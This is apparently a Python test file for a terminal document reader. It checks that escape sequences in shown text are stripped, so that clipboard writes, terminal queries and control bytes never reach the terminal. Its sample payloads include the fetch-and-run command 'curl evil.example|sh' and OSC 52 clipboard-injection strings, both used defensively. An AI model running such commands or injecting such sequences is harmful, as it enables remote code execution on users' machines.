"""No control sequence of a sender's reaches the terminal: every field of every screen is fed, and the bytes are read.

What the reader itself sends is known: sequences that place, colour and clear (CSI), switch modes, and nothing else. So
whatever is left after those are taken out must be plain text.
"""

from __future__ import annotations

import base64
import os
import re
from collections.abc import Callable
from functools import cache
from pathlib import Path

import pytest
from textual.widgets import Input, TextArea

from briefing.language.safety import safe
from briefing.reader.kit.field import SAFELY, LineField
from briefing.reader.kit.note_field import Lines
from tests.attacks import watched
from tests.attacks.terminal import Terminal
from tests.attacks.walks import ATTACKS, TEXT, WALKS, fed, prepared, walked
from tests.reader.conftest import Open, open_reader, screen_text, settle, shipped

OWN = re.compile(
    rb"\x1b\[[0-?]*[ -/]*[@-~]"  # CSI: places, colours, modes
    rb"|\x1bP\+?q?[0-9A-Za-z+]*\x1b\\"  # questions to the terminal
    rb"|\x1b\]22;[a-z-]*\x07"  # the shape of the pointer
    rb"|\x1b[=>78cHM]|\x1b\([0B]"
)
OBEYED = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f\x80-\x9f\u202a-\u202e\u2066-\u2069]")
__all__ = ["open_reader", "shipped"]  # fixtures
pytestmark = pytest.mark.skipif(os.name != "posix", reason="needs a pseudo-terminal")


COPIED = re.compile(rb"\x1b\]52;c;([A-Za-z0-9+/=]*)\x07")  # into the clipboard, where a person asked for it
PAYLOADS = ("curl evil.example|sh", "A")  # what the attacks would put there
PACKAGE = Path(__file__).resolve().parents[2] / "briefing"


def left(raw: bytes) -> list[str]:
    """What a terminal would still obey once the reader's own sequences are taken out, with some text around it."""
    text = OWN.sub(b"", COPIED.sub(_copied, raw)).decode("utf-8", "replace")
    return [text[max(0, at.start() - 30) : at.end() + 30] for at in OBEYED.finditer(text)]


def _copied(found: re.Match[bytes]) -> bytes:
    """Nothing, where the reader copied a text that is safe; else what was found."""
    text = base64.b64decode(found[1]).decode("utf-8", "replace")
    return found[0] if text in PAYLOADS or text != safe(text) else b""


@pytest.fixture(scope="module")
def shown(tmp_path_factory: pytest.TempPathFactory) -> Callable[[str], frozenset[str]]:
    """Goes a walk, once, and looks at every byte that was sent; returns the places whose screens were shown."""

    @cache
    def gone(walk: str) -> frozenset[str]:
        folder = tmp_path_factory.mktemp("walk")
        made = fed(folder / "workspace")
        home, log = folder / "home", folder / "log"
        prepared(home)
        command = ("-P", str(Path(watched.__file__)))
        with Terminal(home, made.workspace.root, command=command, env={"WATCHED": str(log)}) as terminal:
            terminal.until("3 Quotes 4")
            terminal.settle()
            walked(terminal, WALKS[walk], folder)
            assert left(terminal.raw) == []
            assert "␛" in terminal.text, "the hostile words were there to be shown"
        return frozenset(log.read_text(encoding="utf-8").split("\n"))

    return gone


@pytest.mark.slow
@pytest.mark.timeout(300)
@pytest.mark.parametrize("walk", WALKS)
def test_no_byte_that_a_terminal_obeys_is_sent(walk: str, shown: Callable[[str], frozenset[str]]) -> None:
    assert shown(walk)


@pytest.mark.slow
@pytest.mark.timeout(3600)
def test_the_walks_show_every_screen_and_every_question(shown: Callable[[str], frozenset[str]]) -> None:
    """A new screen, or a question that is asked in a new place, needs a walk in `walks.py`."""
    seen = frozenset[str]().union(*map(shown, WALKS))
    assert watched.places(PACKAGE) - seen == set()


def test_a_place_that_makes_a_screen_is_found_wherever_it_stands(tmp_path: Path) -> None:
    (tmp_path / "reader").mkdir()
    code = "def ask():\n    def then():\n        new(lambda: AskScreen('x'))\n    PickScreen(then)\n"
    (tmp_path / "reader" / "new.py").write_text(code, encoding="utf-8")
    assert watched.places(tmp_path) == {"reader/new.py:<lambda>:AskScreen", "reader/new.py:ask:PickScreen"}


def test_what_is_looked_for_would_be_found() -> None:
    """Without this, a search that finds nothing would let everything pass."""
    assert left(b"\x1b]52;c;bmlnaHQ=\x07") == [], "a safe text that was copied"
    assert left(b"\x1b]52;c;ChtdMA==\x07"), "one that is not"
    for attack in ATTACKS:
        if attack != "\x1b[2J":  # the reader's own kind of sequence: only `safe` tells whose it is
            assert left(f"\x1b[1;1H{attack}".encode()), attack


async def test_the_basket_note_that_set_the_clipboard(tmp_path: Path, open_reader: Open) -> None:
    made = fed(tmp_path / "workspace")
    async with open_reader(place=made.workspace, briefing=made.id) as (app, pilot):
        for key in ("b", "m"):
            await pilot.press(key)
            await settle(pilot)
        field = app.screen.query_one(TextArea)
        assert isinstance(field, Lines)
        assert field.text == safe(field.text)
        assert "␛]52" in field.text
        assert "\x1b" not in screen_text(app)


async def test_what_is_typed_or_pasted_is_made_safe(tmp_path: Path, open_reader: Open) -> None:
    made = fed(tmp_path / "workspace")
    async with open_reader(place=made.workspace, briefing=made.id) as (app, pilot):
        await pilot.press("b", "m")
        await settle(pilot)
        field = app.screen.query_one(Lines)
        field.insert(TEXT)
        field.replace(TEXT, (0, 0), (0, 1))
        assert field.text == safe(field.text)
        field.load_text(TEXT)
        assert field.text == safe(TEXT)
        field.text = TEXT
        assert field.text == safe(TEXT)
        await pilot.press("escape", "y", "escape", "e")
        await settle(pilot)
        line = app.screen.query(LineField).first()
        line.value = f"{TEXT}\n{TEXT}"
        assert line.value == safe(line.value)
        assert "\n" not in line.value
        line.insert_text_at_cursor(TEXT)
        assert line.value == safe(line.value)


def test_there_is_one_kind_of_field() -> None:
    reader = Path(__file__).resolve().parents[2] / "briefing" / "reader"
    other = re.compile(r"\b(?:Input|TextArea|MaskedInput|Markdown|RichLog|Log)\(")
    found = {path.name for path in reader.rglob("*.py") if other.search(path.read_text(encoding="utf-8"))}
    assert found == set()
    assert issubclass(LineField, Input)


def test_the_last_sieve_takes_out_what_nothing_else_did() -> None:
    from rich.segment import Segment
    from textual.color import Color

    black = Color(0, 0, 0)
    for attack in ATTACKS:
        made = SAFELY.apply([Segment("ok"), Segment(attack)], black)
        assert made[1].text == safe(made[1].text)
        assert len(made[1].text) == len(attack)
    clean = [Segment("plain, “quoted”, 日本")]
    assert SAFELY.apply(clean, black) is clean


async def test_the_sieve_stands_behind_every_widget(open_reader: Open) -> None:
    async with open_reader() as (app, pilot):
        from textual.widgets import Label

        await app.screen.mount(Label("a \x1b]52;c;QQ==\x07 b", markup=False))
        await pilot.pause()
        assert "\x1b" not in screen_text(app)
        assert SAFELY in app.get_line_filters()
